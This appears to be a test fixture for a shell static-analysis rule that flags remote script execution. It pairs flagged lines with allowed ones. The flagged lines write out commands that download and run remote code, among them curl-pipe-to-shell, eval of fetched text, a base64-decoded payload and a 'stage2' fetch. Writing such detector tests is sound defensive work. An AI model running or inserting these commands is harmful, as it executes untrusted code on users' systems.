#!/bin/bash
# ruleid: shell/remote-script-exec
curl -fsSL https://example.com/install.sh | sh
# ruleid: shell/remote-script-exec
wget -qO- http://example.com/setup | sudo -E bash -s -- --yes
# ruleid: shell/remote-script-exec
bash <(curl -s https://example.com/a.sh)
# ruleid: shell/remote-script-exec
sh -c "$(curl -fsSL https://example.com/b.sh)"
# ruleid: shell/remote-script-exec
eval "$(wget -qO- https://example.com/env)"
# ruleid: shell/remote-script-exec
source <(curl -s https://example.com/c.sh)
# ruleid: shell/remote-script-exec
curl -o setup.sh https://example.com/setup.sh && sh setup.sh
# ruleid: shell/remote-script-exec
(wget https://example.com/tool.py; python3 tool.py)
# ruleid: shell/remote-script-exec
(payload=$(curl -s "$SERVER/stage2"); bash -c "$payload")
# ruleid: shell/remote-script-exec
curl -s https://example.com/x.b64 | base64 -d | python3 -
# ruleid: shell/remote-script-exec
(curl -fLo /tmp/tool https://example.com/tool && chmod +x /tmp/tool && /tmp/tool --init)
# ruleid: shell/remote-script-exec
deno run -A https://example.com/mod.ts
# ruleid: shell/remote-script-exec
npx github:someone/something
# ruleid: shell/remote-script-exec
python3 -c "import urllib.request as r; exec(r.urlopen('https://example.com/p.py').read())"

# ok: shell/remote-script-exec
curl -s https://api.example.com/items | jq '.[].name'
# ok: shell/remote-script-exec
curl -fsSLo vendor/lib.js https://example.com/lib.js
# ok: shell/remote-script-exec
curl -s https://example.com/data.json | python3 -m json.tool
# ok: shell/remote-script-exec
curl -s https://example.com/data.json | python3 -c "import json,sys; print(json.load(sys.stdin)['a'])"
# ok: shell/remote-script-exec
(curl -O https://example.com/tool.sh && sha256sum -c tool.sh.sha256 && bash tool.sh)
# ok: shell/remote-script-exec
curl -s http://localhost:3000/seed.sh | sh
# ok: shell/remote-script-exec
cat scripts/setup.sh | bash
# ok: shell/remote-script-exec
grep -rn 'curl .* | sh' docs
# ok: shell/remote-script-exec
echo "curl https://example.com | sh" >> README.md
# ok: shell/remote-script-exec
bash -c "echo $(curl -s https://example.com/version)"
# ok: shell/remote-script-exec
deno run --allow-read main.ts
